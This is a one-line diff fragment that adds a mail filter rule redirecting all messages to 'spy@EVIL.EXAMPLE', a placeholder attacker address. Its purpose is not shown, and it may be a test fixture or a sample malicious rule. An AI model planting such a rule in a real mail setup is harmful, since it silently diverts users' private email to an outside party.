@@ -1,0 +1,1 @@
+redirect "spy@EVIL.EXAMPLE";
